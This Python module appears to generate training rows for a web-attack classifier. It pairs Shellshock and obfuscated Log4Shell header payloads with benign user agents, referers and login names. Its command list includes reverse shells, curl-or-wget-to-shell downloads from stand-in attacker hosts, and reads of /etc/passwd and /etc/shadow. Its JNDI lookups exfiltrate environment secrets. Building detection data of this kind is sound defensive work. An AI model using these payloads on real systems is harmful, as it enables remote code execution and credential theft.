"""Header-borne attacks and the benign header and login texts that balance them
(imported by data.py; Python 3 stdlib only).

Every generator takes its own random.Random, seeded by data.py from --seed, so
the rows that data.py built before these were added keep their exact bytes
(and so their splits): the new rows are appended after them.

- shellshock(rng, n): Bash function-import payloads (CVE-2014-6271 and its
  follow-ups) from templates: `() { :; }; CMD`, `() { :;};`, `() { _; } >_[$($())] { CMD; }`,
  echo-prefixed, with commands and shells drawn from lists; class cmdi.
- log4shell(rng, n): Log4j JNDI lookups (CVE-2021-44228): `${jndi:PROTO://HOST/PATH}`
  with the protocol, host, port and path varied, the exfiltration lookups
  (`${env:USER}`, `${sys:java.version}`, `${hostName}`) in the host, and the
  obfuscations seen in the wild: `${lower:j}`, `${upper:n}`, `${::-j}`,
  `${env:NaN:-j}`, `${date:'j'}`, `${k8s:k5:-ND}`, nested; sometimes inside
  an ordinary user agent or value; class other_injection.
- user_agent(rng), referer(rng, hosts, paths, words), forwarded_for(rng), ...:
  benign header values of the shapes real traffic has (browser, mobile, app,
  bot, library user agents with varied versions; search-engine and same-site
  referers; proxy chains), so that header units that look unusual are not
  learnt as attacks.
- login_names(rng, words, n): user names and given names with hyphens,
  digits, accents and command-like words (`hai-ping2`, `cat-lover`, `José`):
  benign values that share words with generated command injections.
"""

ATTACK_HEADERS = ["User-Agent", "Referer", "X-Forwarded-For", "X-Forwarded-Host", "X-Real-IP", "True-Client-IP",
                  "Origin", "From", "Forwarded"]
# how often each header carries the payload (User-Agent and Referer most: scanners spray them)
ATTACK_HEADER_W = [40, 20, 12, 5, 5, 4, 5, 5, 4]

SHELLS = ["/bin/bash", "/bin/sh", "bash", "sh", "/usr/bin/env bash", "/bin/zsh"]
SS_CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "/bin/cat /etc/passwd", "cat /etc/shadow", "ls -la /",
           "echo vulnerable", "sleep 5", "sleep 10", "ping -c 3 {ip}", "nc -e /bin/sh {ip} {port}",
           "/bin/nc {ip} {port} -e /bin/bash", "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
           "curl -s http://{host}/{file} | sh", "curl http://{host}/{file} -o /tmp/{file}",
           "wget -qO- http://{host}/{file} | bash", "wget http://{host}/{file} -O /tmp/x; chmod +x /tmp/x; /tmp/x",
           "/usr/bin/wget http://{host}/{file}", "echo; echo; /bin/cat /etc/passwd",
           "echo Content-Type: text/plain; echo; id", "echo \"X-Test: $(id)\"", "/bin/uname -a",
           "perl -e 'print \"vuln\"'", "python -c 'import os;os.system(\"id\")'", "nslookup {rand}.{host}",
           "dig {rand}.{host}", "/usr/bin/id", "cd /tmp; wget http://{host}/{file}; sh {file}",
           "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {ip} {port} > /tmp/f",
           "tftp -g -r {file} {ip}", "busybox wget http://{ip}/{file}", "/bin/ls", "env", "ps aux", "hostname"]
EVIL_HOSTS = ["attacker.example", "evil.example.net", "198.51.100.7", "203.0.113.66", "x.oast.example",
              "cb.interact.example", "dnslog.example.cn", "c2.example.org", "192.0.2.44", "burp.collab.example",
              "canary.example.io", "xss.example.ru", "45.33.32.156", "185.220.101.1", "logs.example.tk"]
FILES = ["x.sh", "bot", "a", "s.sh", "m.x86", "payload", "run.sh", "1.txt", "k", "mips", "x86_64", "sh"]


def _fill(rng, s):
    return (s.replace("{ip}", "%d.%d.%d.%d" % (rng.choice([10, 45, 89, 104, 185, 192, 198, 203]), rng.randint(0, 255),
                                               rng.randint(0, 255), rng.randint(1, 254)))
            .replace("{port}", str(rng.choice([4444, 1337, 8080, 9001, 53, 443, 80, rng.randint(1024, 65535)])))
            .replace("{host}", rng.choice(EVIL_HOSTS))
            .replace("{file}", rng.choice(FILES))
            .replace("{rand}", "%x" % rng.getrandbits(rng.choice([24, 32, 48]))))


def shellshock(rng, n):
    out = []
    for _ in range(n):
        cmd = _fill(rng, rng.choice(SS_CMDS))
        if rng.random() < 0.35:
            cmd = "%s -c '%s'" % (rng.choice(SHELLS), cmd.replace("'", "\""))
        fn = rng.choice(["() { :; };", "() { :;};", "() { :; }; ", "(){ :; };", "() { ignored; };", "() { _; };",
                         "() { :; }", "() { foo; };", "() { 0; };", "() { :;} ;", "() {:;};", "() { test;};"])
        r = rng.random()
        if r < 0.12:
            p = "() { _; } >_[$($())] { %s; }" % cmd
        elif r < 0.2:
            p = "() { (a)=>\\' %s" % cmd  # CVE-2014-7169 variant
        elif r < 0.4:
            p = "%s echo; %s" % (fn, cmd)
        else:
            p = "%s %s" % (fn, cmd)
        if rng.random() < 0.1:
            p = p.replace("; ", ";")
        out.append(p.strip())
    return out


J_PROTOS = ["ldap", "ldap", "ldap", "ldaps", "rmi", "rmi", "dns", "dns", "iiop", "http", "nis", "nds", "corba"]
EXFIL = ["${env:USER}", "${env:HOSTNAME}", "${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}",
         "${sys:user.name}", "${hostName}", "${java:version}", "${java:os}", "${env:JAVA_VERSION}", "${sys:os.name}",
         "${ctx:loginId}", "${main:0}", "${env:PATH}"]


def _obf_char(rng, ch):
    r = rng.random()
    if r < 0.3:
        return "${lower:%s}" % (ch.upper() if rng.random() < 0.5 else ch)
    if r < 0.45:
        return "${upper:%s}" % ch
    if r < 0.7:
        return "${::-%s}" % ch
    if r < 0.82:
        return "${env:%s:-%s}" % (rng.choice(["NaN", "BARFOO", "X", "ENV_NAME", "a"]), ch)
    if r < 0.9:
        return "${date:'%s'}" % ch
    return "${%s:%s:-%s}" % (rng.choice(["k8s", "sys", "main", "ctx"]), rng.choice(["k5", "x", "foo"]), ch)


def _obf_word(rng, w, p):
    return "".join(_obf_char(rng, c) if rng.random() < p else c for c in w)


def log4shell(rng, n):
    out = []
    for _ in range(n):
        proto = rng.choice(J_PROTOS)
        host = rng.choice(EVIL_HOSTS)
        if rng.random() < 0.3:
            host = "%s.%s" % (rng.choice(EXFIL), host)
        elif rng.random() < 0.3:
            host = "%x.%s" % (rng.getrandbits(40), host)
        if rng.random() < 0.5:
            host += ":" + str(rng.choice([1389, 1099, 389, 53, 80, 443, 8080, 12344, rng.randint(1024, 65535)]))
        path = rng.choice(["a", "Exploit", "o=tomcat", "Basic/Command/Base64/%s" % "".join(
            rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(rng.randint(8, 32))),
            "%x" % rng.getrandbits(32), "TomcatBypass/Command/Base64/d2dldA==", "x", "log4j", "callback", "ua",
            "#Exploit", "dc=example,dc=com"])
        sep = "://"
        r = rng.random()
        if r < 0.45:
            lookup = "jndi"
        else:
            lookup = _obf_word(rng, "jndi", rng.choice([0.5, 0.75, 1.0]))
        if rng.random() < 0.3:
            proto = _obf_word(rng, proto, 0.6)
        if rng.random() < 0.15:
            sep = rng.choice(["${::-:}//", ":${::-/}/", "${env:NaN:-:}//"])
        p = "${%s:%s%s%s/%s}" % (lookup, proto, sep, host, path)
        r = rng.random()
        if r < 0.1:
            p = "${${::-$}{jndi:%s://%s/%s}}" % (proto, host, path) if rng.random() < 0.5 else p
        if r > 0.8:
            # inside an ordinary header or field value
            p = rng.choice(["Mozilla/5.0 %s", "%s", "t('%s')", "%s Gecko", "test%s", "admin %s"]) % p
        out.append(p)
    return out


# ---------------------------------------------------------------- benign header values

def _ver(rng, a, b):
    return "%d.0.%d.%d" % (rng.randint(a, b), rng.randint(0, 7000), rng.randint(0, 250))


WIN = ["Windows NT 10.0; Win64; x64", "Windows NT 10.0; WOW64", "Windows NT 6.1; Win64; x64", "Windows NT 6.3; Win64; x64",
       "Windows NT 10.0"]
MAC = ["Macintosh; Intel Mac OS X 10_15_7", "Macintosh; Intel Mac OS X 10_14_6", "Macintosh; Intel Mac OS X 13_5_2",
       "Macintosh; Intel Mac OS X 14_4_1"]
LIN = ["X11; Linux x86_64", "X11; Ubuntu; Linux x86_64", "X11; Fedora; Linux x86_64", "X11; CrOS x86_64 15633.69.0"]
PHONES = ["SM-G991B", "SM-A536B", "Pixel 7", "Pixel 8 Pro", "Redmi Note 12", "moto g(60)", "CPH2219", "SM-S918B",
          "M2101K6G", "ONEPLUS A6013", "K", "V2111", "2201116SG", "SM-T870"]
BOTS = ["Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "Twitterbot/1.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
        "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", "WhatsApp/2.23.20.0 A",
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", "ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)"]
LIBS = ["curl/%d.%d.%d", "Wget/1.%d.%d", "python-requests/2.%d.%d", "Python-urllib/3.%d", "Go-http-client/1.1",
        "Go-http-client/2.0", "okhttp/4.%d.%d", "okhttp/3.%d.%d", "axios/1.%d.%d", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "Java/1.8.0_%d", "Java/17.0.%d", "Apache-HttpClient/4.5.%d (Java/1.8.0_%d)", "PostmanRuntime/7.%d.%d",
        "libwww-perl/6.%d", "Ruby", "Faraday v2.%d.%d", "Dalvik/2.1.0 (Linux; U; Android %d; %s Build/TP1A.%d.005)",
        "aiohttp/3.%d.%d", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.%d",
        "Prometheus/2.%d.%d", "kube-probe/1.%d", "ELB-HealthChecker/2.0", "GoogleHC/1.0", "nginx-ssl early hints",
        "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.%d; Pro)", "Zabbix", "check_http/v2.%d (monitoring-plugins %d)"]
APPS = ["%s/%d.%d.%d (iPhone; iOS 17.%d; Scale/3.00)", "%s/%d.%d (Android %d; %s)", "%s/%d.%d.%d CFNetwork/1474 Darwin/23.0.0",
        "%s/%d.%d.%d (com.example.%s; build:%d; iOS 16.%d.0) Alamofire/5.%d.0"]
APP_NAMES = ["MyShop", "Spotify", "Instagram", "NewsReader", "BankApp", "Weather", "FitTrack", "Reddit", "Slack",
             "Duolingo", "Uber", "Tiempo"]


def _fmt(rng, t):
    """Fill a template's %d with small numbers and %s with a phone model."""
    parts = t.split("%")
    res = parts[0]
    for p in parts[1:]:
        if p.startswith("d"):
            res += str(rng.randint(0, 40)) + p[1:]
        elif p.startswith("s"):
            res += rng.choice(PHONES) + p[1:]
        else:
            res += "%" + p
    return res


def user_agent(rng):
    r = rng.random()
    if r < 0.22:
        return "Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Safari/537.36%s" % (
            rng.choice(WIN + MAC + LIN), _ver(rng, 90, 131),
            rng.choice(["", "", "", " Edg/%s" % _ver(rng, 100, 131), " OPR/%s" % _ver(rng, 90, 110),
                        " YaBrowser/24.1.0.0"]))
    if r < 0.34:
        v = rng.randint(78, 132)
        return "Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0" % (rng.choice(WIN + MAC + LIN), v, v)
    if r < 0.42:
        return "Mozilla/5.0 (%s) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/%d.%d Safari/605.1.15" % (
            rng.choice(MAC), rng.randint(13, 18), rng.randint(0, 6))
    if r < 0.55:
        return "Mozilla/5.0 (Linux; Android %d; %s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%s Mobile Safari/537.36" % (
            rng.randint(8, 15), rng.choice(PHONES), _ver(rng, 90, 131))
    if r < 0.65:
        dev = rng.choice(["iPhone; CPU iPhone OS", "iPad; CPU OS"])
        v = "%d_%d" % (rng.randint(12, 18), rng.randint(0, 7))
        tail = rng.choice(["Version/%d.0 Mobile/15E148 Safari/604.1" % rng.randint(12, 18), "Mobile/15E148",
                           "CriOS/%s Mobile/15E148 Safari/604.1" % _ver(rng, 100, 131),
                           "Mobile/15E148 [FBAN/FBIOS;FBAV/%d.0.0.%d;FBBV/%d]" % (rng.randint(300, 460), rng.randint(1, 60), rng.randint(10 ** 8, 10 ** 9)),
                           "Mobile/15E148 Instagram %d.0.0.%d.%d" % (rng.randint(200, 330), rng.randint(1, 40), rng.randint(1, 300))])
        return "Mozilla/5.0 (%s %s like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) %s" % (dev, v, tail)
    if r < 0.73:
        return rng.choice(BOTS)
    if r < 0.9:
        return _fmt(rng, rng.choice(LIBS))
    t = rng.choice(APPS).replace("%s", rng.choice(APP_NAMES), 1)
    if "com.example.%s" in t:
        t = t.replace("%s", rng.choice(["shop", "app", "client"]), 1)
    return _fmt(rng, t)


SEARCH = ["https://www.google.com/", "https://www.google.com/search?q=%s", "https://www.bing.com/search?q=%s&form=QBLH",
          "https://duckduckgo.com/?q=%s&ia=web", "https://search.yahoo.com/search?p=%s", "https://www.google.com.ar/",
          "https://yandex.ru/search/?text=%s", "https://t.co/%s", "https://l.facebook.com/l.php?u=%s",
          "android-app://com.google.android.gm/", "https://www.reddit.com/r/%s/comments/%s/", "https://news.ycombinator.com/item?id=%s"]


def referer(rng, hosts, paths, words):
    r = rng.random()
    q = "+".join(rng.choice(words) for _ in range(rng.randint(1, 4)))
    if r < 0.35:
        t = rng.choice(SEARCH)
        while "%s" in t:
            t = t.replace("%s", rng.choice([q, "%x" % rng.getrandbits(32), str(rng.randint(10 ** 6, 10 ** 8))]), 1)
        return t
    host = rng.choice(hosts)
    path = rng.choice(paths) if paths and rng.random() < 0.7 else "/"
    s = "%s://%s%s" % (rng.choice(["https", "https", "http"]), host, path)
    if rng.random() < 0.3:
        s += "?" + rng.choice(["q=%s" % q, "page=%d" % rng.randint(1, 40), "utm_source=newsletter&utm_medium=email",
                               "ref=nav", "id=%d&lang=en" % rng.randint(1, 99999), "s=%s&post_type=product" % q,
                               "fbclid=IwAR%x" % rng.getrandbits(64), "gclid=%x" % rng.getrandbits(80)])
    return s


def _ip(rng):
    if rng.random() < 0.15:
        return "2001:db8:%x:%x::%x" % (rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(16))
    return "%d.%d.%d.%d" % (rng.randint(1, 223), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254))


def forwarded_for(rng):
    return ", ".join(_ip(rng) for _ in range(rng.choice([1, 1, 1, 2, 2, 3])))


def forwarded(rng, host):
    s = "for=%s" % _ip(rng)
    if ":" in s:
        s = 'for="[%s]"' % s[4:]
    if rng.random() < 0.6:
        s += ";proto=%s" % rng.choice(["https", "http"])
    if rng.random() < 0.4:
        s += ";host=%s" % host
    if rng.random() < 0.3:
        s += ";by=%s" % _ip(rng)
    return s


def benign_headers(rng, host, hosts, paths, words):
    """A benign request's inspected headers: always a user agent, often more."""
    h = [("User-Agent", user_agent(rng)),
         ("Accept", rng.choice(["*/*", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
                                "application/json, text/plain, */*", "image/webp,*/*"]))]
    if rng.random() < 0.6:
        h.append(("Referer", referer(rng, hosts, paths, words)))
    if rng.random() < 0.35:
        h.append(("X-Forwarded-For", forwarded_for(rng)))
    if rng.random() < 0.1:
        h.append(("X-Real-IP", _ip(rng)))
    if rng.random() < 0.05:
        h.append(("True-Client-IP", _ip(rng)))
    if rng.random() < 0.2:
        h.append(("Origin", "https://" + rng.choice([host] + hosts)))
    if rng.random() < 0.1:
        h.append(("X-Forwarded-Host", host))
    if rng.random() < 0.08:
        h.append(("Forwarded", forwarded(rng, host)))
    if rng.random() < 0.04:
        h.append(("From", rng.choice(["googlebot(at)googlebot.com", "bingbot(at)microsoft.com",
                                      "%s@example.com" % rng.choice(words).lower()])))
    return h


# ---------------------------------------------------------------- benign logins and names

CMD_WORDS = ["ping", "cat", "ls", "id", "sleep", "echo", "curl", "wget", "bash", "sh", "nc", "uname", "type", "dir",
             "net", "env", "who", "kill", "rm", "cp", "mv", "find", "grep", "sed", "awk", "perl", "python", "ps",
             "top", "host", "dig", "tail", "head", "more", "less", "sort", "cut", "tr", "tee", "exec", "eval", "run",
             "shell", "root", "admin", "sudo", "ssh", "ftp", "tftp", "telnet", "time", "date", "whoami", "passwd"]
GIVEN = ["José", "María", "Begoña", "Iñaki", "Jesús", "Núria", "Àlex", "Sofía", "Martín", "Lucía", "Ángel", "Raúl",
         "Óscar", "Inés", "Jürgen", "Müller", "Björn", "Zoë", "Chloé", "François", "Hélène", "Søren", "Åsa",
         "Łukasz", "Małgorzata", "João", "Conceição", "Ñuñoa", "Muñoz", "Peña", "Núñez", "Ibáñez", "Gómez",
         "Çelik", "Doğan", "Þór", "Renée", "Anaïs", "Noël", "Zoé", "Dvořák", "Šimon", "Beyoncé", "Pilar", "Carmen",
         "Txema", "Ainhoa", "Itziar", "Gorka", "Aitor", "Iker", "Unai", "Nerea", "Amaia", "Xabier", "Koldo"]


def login_names(rng, words, n):
    out = []
    short = [w.lower() for w in words if 2 <= len(w) <= 7 and w.isalpha() and w.isascii()]
    for _ in range(n):
        r = rng.random()
        a = rng.choice(short)
        c = rng.choice(CMD_WORDS)
        if r < 0.35:
            s = rng.choice(["%s-%s", "%s_%s", "%s.%s", "%s%s"]) % ((a, c) if rng.random() < 0.5 else (c, a))
        elif r < 0.55:
            s = "%s-%s%d" % (a, c, rng.randint(0, 99)) if rng.random() < 0.5 else "%s%d" % (c + rng.choice(["", "er", "y", "s"]), rng.randint(1, 2024))
        elif r < 0.8:
            s = rng.choice(GIVEN)
            if rng.random() < 0.5:
                s += " " + rng.choice(GIVEN)
            if rng.random() < 0.2:
                s = s.lower()
        else:
            s = "%s %s" % (rng.choice(GIVEN), rng.choice([c, c.capitalize(), a.capitalize()]))
        out.append(s)
    return out
